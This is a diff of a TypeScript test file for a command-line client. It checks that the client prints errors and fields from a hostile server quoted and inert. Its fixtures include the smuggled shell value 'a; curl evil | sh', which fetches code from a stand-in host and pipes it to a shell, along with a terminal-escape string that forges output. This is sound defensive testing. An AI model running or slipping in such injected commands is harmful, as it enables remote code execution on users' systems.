@@ -2,7 +2,7 @@
 import { text } from "node:stream/consumers";
 import { expect, test } from "vitest";
 import { connect } from "../../client/index.ts";
-import { runHere } from "../setup/cli.ts";
+import { runCLI, runHere } from "../setup/cli.ts";
 import { serve } from "../setup/serve.ts";
 
 /** Clears the screen, writes the clipboard, hides and reverses the text after it, and begins a forged line. */
@@ -51,11 +51,17 @@ const LISTING = {
 };
 let listing: () => object = () => LISTING;
 let failsWith: { status: number; body: string } | undefined;
+/** The event stream of `ask`. */
+let events: string | undefined;
 
 const url = await serve(async (request, response) => {
   const body = await text(request);
   if (failsWith) return void response.writeHead(failsWith.status).end(failsWith.body);
   const { pathname } = new URL(request.url ?? "", "http://any");
+  if (pathname === "/execute" && events !== undefined) {
+    response.setHeader("content-type", "text/event-stream");
+    return void response.end(events);
+  }
   if (pathname !== "/mcp")
     return void response.end(JSON.stringify({ path: HOSTILE, size: 1, sha256: HOSTILE, ...listing() }));
   if (request.method !== "POST") return void response.writeHead(405).end();
@@ -147,6 +153,31 @@ test.each(COMMANDS)("%s %s prints a hostile server's error without acting on it"
     expect(await faultsOf([...words, "--json"])).toEqual([]);
   }
   failsWith = undefined;
+});
+
+test("ask prints the error event of a hostile server on one line", async () => {
+  const error = JSON.stringify({ error: HOSTILE });
+  events = `event: task\ndata: {"taskId":"${ID}"}\n\nevent: error\ndata: ${error}\n\n`;
+  expect(await faultsOf(["ask", "what"])).toEqual([]);
+  events = undefined;
+});
+
+test("stdio prints a hostile server's error to standard error without acting on it", async () => {
+  failsWith = { status: 400, body: JSON.stringify({ error: HOSTILE }) };
+  const message = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
+  const { stderr } = await runCLI(["stdio", ...options], {}, `${message}\n`);
+  failsWith = undefined;
+  expect(stderr).toContain("curl evil");
+  expect(stderr.split("\n").filter((line) => ACTS.test(line) || line.startsWith("Error:"))).toEqual([]);
+});
+
+test.each([
+  ["runs", { runs: [RUN], next_cursor: "a; curl evil | sh" }],
+  ["result", { ...TASK, id: "a; curl evil | sh" }],
+])("the command that %s prints quotes what a hostile server has sent", async (name, data) => {
+  answer = () => ({ content: [], structuredContent: data });
+  const { stderr } = await runHere([name, ...(name === "result" ? [ID] : []), ...options]);
+  expect(stderr).toContain(" 'a; curl evil | sh'");
 });
 
 test("a listing ends at a page without entries, even if the page has a cursor", async () => {
